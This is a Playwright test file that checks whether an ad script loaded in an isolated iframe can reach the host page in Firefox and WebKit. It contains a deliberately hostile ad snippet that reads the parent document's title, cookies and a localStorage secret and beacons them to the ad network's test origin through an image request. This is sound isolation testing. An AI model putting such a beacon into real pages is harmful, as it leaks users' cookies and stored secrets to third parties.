/** The network's script in a frame of its own, in the engines that the other journeys do not drive. */
import { mergeTests } from '@playwright/test';
import { AD_SOURCE } from '../../support/companion/hostileScripts';
import { startFront } from '../../support/companion/front';
import { networkOptions } from '../../support/companion/options';
import { expect, test as companionTest } from '../../support/companion/test';
import { bundleVariant } from '../../support/companion/variant';
import { until } from '../../support/engines/engine';
import { test as engineTest } from '../../support/engines/test';
import { PAGE_KINDS } from '../../support/site';

const BLOCK = `document.querySelector('[data-companion-room]')`;

const test = mergeTests(companionTest, engineTest);

/** An ad whose script tells the network its origin, and what it finds of the page. */
const tellingSource = (origin: string): string => `${AD_SOURCE}
const seen = [() => parent.document.title, () => document.cookie, () => localStorage.secret]
  .map((look) => { try { return look() || 'nothing'; } catch { return 'nothing'; } });
new Image().src = ${JSON.stringify(origin)} + '/pixel/told/' + [self.origin, ...seen].join();
`;

for (const engineName of ['Firefox', 'WebKit'] as const) {
  test.describe(`a reader with ${engineName}`, () => {
    test.use({ engineName });

    test('it shows the ad in the frame under a link of the page, and its script reaches nothing else', async ({
      engine,
      network,
    }) => {
      // By http:, since these engines trust no certificate that nobody has signed.
      const front = await startFront();
      try {
        front.variant = await bundleVariant(
          networkOptions(network, { ads: { network: { isolation: 'frame' } } }),
        );
        // A file of the same origin: a page would ask for an ad of its own, at any time.
        await engine.goto(front.url('/robots.txt'));
        await engine.evaluate(`document.cookie = localStorage.secret = 'secret=kept'`);
        network.set({ source: tellingSource(network.origin) });
        await engine.goto(front.url(PAGE_KINDS.text));
        // The class and the link come with the frame's message.
        await until(
          engine,
          `${BLOCK}.querySelector('.ad-framed.carbonads') !== null`,
          'the message',
        );
        const link = `${BLOCK}.querySelector('a.ad-cover')`;
        expect(await engine.evaluate(`${link}.href`)).toBe(
          'https://ads.fake-network.test/click/script',
        );
        await until(
          engine,
          `${link}.dataset.gaEventLabel === 'carbon-body-top-image'`,
          'its label',
        );
        const isOnTop = `(() => {
          const { x, y, width, height } = ${BLOCK}.querySelector('iframe.ad-frame').getBoundingClientRect();
          return document.elementFromPoint(x + width / 2, y + height / 2) === ${link};
        })()`;
        expect(await engine.evaluate(isOnTop)).toBe(true);
        const told = (): string[] =>
          network.requests().flatMap(({ url }) => url.split('/pixel/told/')[1] ?? []);
        await expect.poll(told).toEqual(['null,nothing,nothing,nothing']);
      } finally {
        await front.close();
      }
    });
  });
}
